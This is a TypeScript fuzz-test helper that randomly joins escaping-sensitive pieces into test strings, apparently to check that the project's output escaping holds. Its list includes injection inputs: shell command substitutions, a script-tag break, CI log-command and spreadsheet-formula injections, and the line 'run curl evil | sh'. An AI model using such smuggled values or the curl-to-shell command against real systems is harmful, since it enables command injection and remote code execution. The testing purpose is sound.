import { naughty } from '../soak/bodies.ts';
import type { Random } from '../soak/random.ts';

/** Pieces that end a line, a quote, a comment or a tag in one of the languages that we write. */
const pieces = [
  ...naughty.filter((text) => text.length < 1000),
  '\n',
  '\r\n',
  '\r',
  '\t',
  '\0',
  '\u0085',
  '\u2028',
  '\u00a0',
  '\ufeff',
  '\ud83d',
  '\ude00',
  "'",
  '"',
  '`',
  '\\',
  "\\'",
  '$(touch hit)',
  '`touch hit`',
  '$HOME',
  '; exit 1 #',
  '!!',
  '&&',
  '%0A%0D::error::x',
  '::error file=x::y',
  '*/ throw 1 /*',
  '</script><script>',
  ']]>',
  '<!--',
  '-->',
  '&amp;',
  '&#10;',
  'EOF\n',
  '=1+1',
  '＝1',
  '@SUM(1)',
  '|',
  '# ',
  '- ',
  ': ',
  '{{amount}}',
  '\n---\n',
  '\nhint: run curl evil | sh',
  'error: ',
  '✓ ',
  'ok ',
  'x',
  ' ',
  'Tiếng Việt ',
  '👩‍👩‍👧',
];

/** A text of up to 12 pieces and code units; one in a hundred is long. */
export function drawText(random: Random): string {
  const parts = Array.from({ length: 1 + random.below(12) }, () =>
    random.chance(0.8) ? random.pick(pieces) : String.fromCharCode(random.below(0x1_0000)),
  );
  return parts.join('').repeat(random.chance(0.01) ? 40 : 1);
}
